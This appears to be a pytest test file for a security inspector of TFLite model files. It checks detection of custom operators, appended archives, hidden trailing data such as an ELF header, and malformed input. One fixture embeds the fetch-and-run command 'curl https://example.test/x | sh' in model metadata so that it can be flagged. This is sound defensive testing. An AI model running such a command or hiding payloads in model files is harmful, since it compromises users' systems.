from __future__ import annotations

import io
import struct
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.formats.inspecting import assert_total, inspect, inspect_with_budget, kinds, mutations, notes, only
from tests.formats.writers_containers import call
from tests.formats.writers_flatbuffer import Flat, tflite
from trustaudit.filefacts import Coverage
from trustaudit.formats.tflite import inspect_tflite


def test_honest_model_has_facts_only() -> None:
    facts = inspect(inspect_tflite, tflite([]))
    assert facts.coverage is Coverage.STRUCTURE
    assert kinds(facts) == {"tflite-model"}
    model = only(facts, "tflite-model")
    assert (model.get("operators"), model.get("builtins")) == ("1", "3")
    assert model.get("metadata") == "min_runtime_version"


def test_custom_operators_are_named() -> None:
    facts = inspect(inspect_tflite, tflite(["TFLite_Detection_PostProcess", "FlexReadFile", "FlexReadFile"]))
    custom = {n.get("operator"): n.get("count") for n in notes(facts, "tflite-custom-operator")}
    assert custom == {"TFLite_Detection_PostProcess": "1", "FlexReadFile": "2"}


def test_labels_in_an_appended_archive_are_told() -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as out:
        out.writestr("labels.txt", "cat\ndog\n")
    assert "tflite-appended-archive" in kinds(inspect(inspect_tflite, tflite([]) + archive.getvalue()))


def test_a_command_in_the_description_is_named() -> None:
    facts = inspect(inspect_tflite, tflite([], description="curl https://example.test/x | sh"))
    assert "metadata-shell" in kinds(facts)


def test_buffers_are_not_read() -> None:
    assert inspect(inspect_tflite, tflite(["X"], data=3_000_000)).bytes_read < 200_000


@pytest.mark.parametrize("data", [b"", b"\x80\x04N.", b"PK\x03\x04" + bytes(60), bytes(8)])
def test_another_format_under_this_name_is_partial(data: bytes) -> None:
    facts = inspect(inspect_tflite, data)
    assert facts.coverage is Coverage.PARTIAL
    assert "tflite-magic" in kinds(facts)


@pytest.mark.parametrize("cut", [20, 40, 80, 200])
def test_a_truncated_model_is_malformed(cut: int) -> None:
    facts = inspect(inspect_tflite, tflite(["X"], data=0)[:cut])
    assert facts.coverage is Coverage.PARTIAL
    assert "tflite-malformed" in kinds(facts)


def test_an_offset_behind_the_end_is_malformed() -> None:
    flat = Flat(b"TFL3")
    facts = inspect(inspect_tflite, flat.finish(flat.table({1: b"\xff\xff\0\0"})))
    assert "tflite-malformed" in kinds(facts)


def test_spent_budget_is_partial() -> None:
    facts, _ = inspect_with_budget(inspect_tflite, tflite(["X"], data=100_000), 20_000)
    assert facts.coverage is Coverage.PARTIAL


@given(cut=st.integers(0, 300), patches=st.lists(st.tuples(st.integers(0, 600), st.integers(0, 255)), max_size=6))
def test_any_mutation_is_inspected_without_raising(cut: int, patches: list[tuple[int, int]]) -> None:
    assert_total(inspect_tflite, mutations(tflite(["A", "B"], data=0), cut, patches))


@pytest.mark.parametrize("behind", [call(), b"\x7fELF\x02\x01\x01" + bytes(60), bytes(500) + call()])
def test_what_hides_behind_the_tensors_is_told(behind: bytes) -> None:
    flat = Flat(b"TFL3")
    data = flat._put(struct.pack("<I", 400) + bytes(range(200)) * 2)
    buffers = flat.vector([flat.table({}), flat.table({0: data})])
    model = flat.finish(flat.table({0: b"\3\0\0\0", 4: buffers}))
    assert "tflite-trailing-data" not in kinds(inspect(inspect_tflite, model))
    for between in (b"", b"serving_default\0main\0" * 90):
        assert "tflite-trailing-data" in kinds(inspect(inspect_tflite, model + between + behind))
